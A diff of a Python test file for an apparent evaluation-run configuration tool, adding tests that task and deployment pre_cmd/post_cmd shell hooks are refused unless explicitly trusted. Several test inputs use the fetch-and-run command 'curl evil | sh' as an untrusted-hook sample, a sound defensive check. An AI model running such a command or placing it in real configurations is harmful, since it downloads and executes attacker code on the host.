@@ -48,7 +48,7 @@ class Recorder:
 
 
 def spec(*tasks: TaskSpec, **fields: Any) -> RunSpec:
-    given = {
+    given: dict[str, Any] = {
         "source": "run.yaml",
         "tasks": tasks,
         "endpoint": EndpointSpec(url="http://h/v1/completions", model_id="m"),
@@ -170,9 +170,25 @@ def test_a_need_that_several_plans_share_is_one_with_the_files_of_all() -> None:
 
 @pytest.mark.parametrize("text", ["pre_cmd", "post_cmd"])
 def test_shell_text_of_a_configuration_runs_only_when_it_is_trusted(text: str) -> None:
-    tasks = [task("plain"), task("gated", **{text: "curl evil | sh"})]
-    with pytest.raises(ConfigError, match="^gated: pre_cmd and post_cmd run shell text") as caught:
-        check_trust(tasks, trusted=False)
+    asked = spec(task("plain"), task("gated", **{text: "curl evil | sh"}))
+    with pytest.raises(ConfigError, match=r"^gated: pre_cmd and post_cmd run shell text") as caught:
+        check_trust(asked, trusted=False)
     assert "--trust-pre-cmd" in (caught.value.hint or "")
-    check_trust(tasks, trusted=True)
-    check_trust(tasks[:1], trusted=False)
+    check_trust(asked, trusted=True)
+    check_trust(evolve(asked, tasks=asked.tasks[:1]), trusted=False)
+
+
+def test_shell_text_of_the_deployment_runs_only_when_it_is_trusted() -> None:
+    asked = spec(task(), deployment=DeploymentSpec(type="demo", pre_cmd="curl evil | sh"))
+    with pytest.raises(ConfigError, match=r"^deployment: pre_cmd and post_cmd run shell text"):
+        check_trust(asked, trusted=False)
+    check_trust(asked, trusted=True)
+
+
+def test_servers_that_nobody_would_start_are_refused() -> None:
+    judge = Section(name="judge", path="auxiliary_deployments.judge", data={"type": "vllm"})
+    with pytest.raises(ConfigError, match="executor toy starts no auxiliary deployments in this version"):
+        planned(spec(task(), auxiliary_deployments=(judge,)))
+    shape = Section(name="lepton", path="deployment.lepton_config", data={"resource_shape": "gpu"})
+    with pytest.raises(ConfigError, match="only executor lepton reads it"):
+        planned(spec(task(), deployment=DeploymentSpec(type="demo", lepton_config=shape)))
